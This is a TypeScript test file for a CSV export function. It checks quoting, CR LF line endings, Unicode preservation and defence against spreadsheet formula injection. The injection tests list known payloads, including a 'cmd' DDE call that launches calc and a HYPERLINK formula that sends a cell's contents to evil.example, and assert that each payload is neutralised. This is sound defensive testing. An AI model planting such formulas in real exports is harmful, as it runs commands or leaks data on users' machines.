import Papa from "papaparse";
import { expect, it } from "vitest";
import { byteOrderMark, csvLines } from "../../src/export/export-list.ts";

/** What a program that keeps to RFC 4180 reads. */
const read = (text: string) => Papa.parse<string[]>(text, { newline: "\r\n" }).data;
const written = (cell: string) => read(csvLines([[cell, "next"]]))[0]?.[0];

it("cells are in quotes, and each line ends with CR LF", () => {
  expect(csvLines([["a", "b"], ["1"]])).toBe('"a","b"\r\n"1"\r\n');
});

it.each([
  "",
  "plain",
  'say "hi"',
  '"',
  "a,b",
  "a;b",
  "line\nbreak",
  "line\r\nbreak",
  " spaces ",
  "O'Neil",
  "a-b",
  "a=b",
  "x@acme.example",
])("an RFC 4180 reader reads %j as it is", (cell) => {
  expect(read(csvLines([["first", cell, "last"]]))[0]).toEqual(["first", cell, "last"]);
});

it.each(["Elif Taş", "Παράδειγμα", "حسن علي", "山田太郎", "😀", "e\u0301", "\u202Eabc"])(
  "%j keeps every character",
  (name) => {
    const bytes = new TextEncoder().encode(byteOrderMark + csvLines([[name]]));
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes)).toBe(`"${name}"\r\n`);
  },
);

/** https://owasp.org/www-community/attacks/CSV_Injection and payloads that are known. */
it.each([
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1;1)",
  "\t=1+1",
  "\tx",
  "\r=1+1",
  "\rx",
  "\n=1+1",
  "\nx",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "﹣1+1",
  "−1+1",
  " =1+1",
  "\u00A0=1+1",
  "\u3000=1+1",
  "\uFEFF=1+1",
  "\u200B=1+1",
  "\u0001=1+1",
  "=1+1\nsecond line",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '=DDE("cmd";"/C calc";"x")',
])("%j begins with an apostrophe, so that no spreadsheet calculates it", (cell) => {
  expect(written(cell)).toMatch(/^'/);
  expect(written(cell)?.replaceAll("'", "")).toBe(cell.replaceAll("'", ""));
});

it.each([",", ";", "|", "\t", "\n", "\r\n"])("nor when a program splits at %j and heeds no quotes", (separator) => {
  for (const sign of ["=", "+", "-", "@", "＝"]) {
    for (const between of ["", " ", '"', " '\"", "\u00A0"]) {
      const line = csvLines([[`name${separator}${between}${sign}cmd|' /C calc'!A0${separator}x`]]);
      const naive = line
        .split(separator)
        .map((part) => part.replace(/^[\s"']*/, (start) => start.replace(/[\s"]/g, "")));
      expect(naive.filter((part) => /^[=+\-@＝]/.test(part))).toEqual([]);
    }
  }
});

it("a name with a dash or a sign within stays as it is", () => {
  expect(["Anne-Marie", "1+1=2", "a@b", "x - y"].map(written)).toEqual(["Anne-Marie", "1+1=2", "a@b", "x - y"]);
});
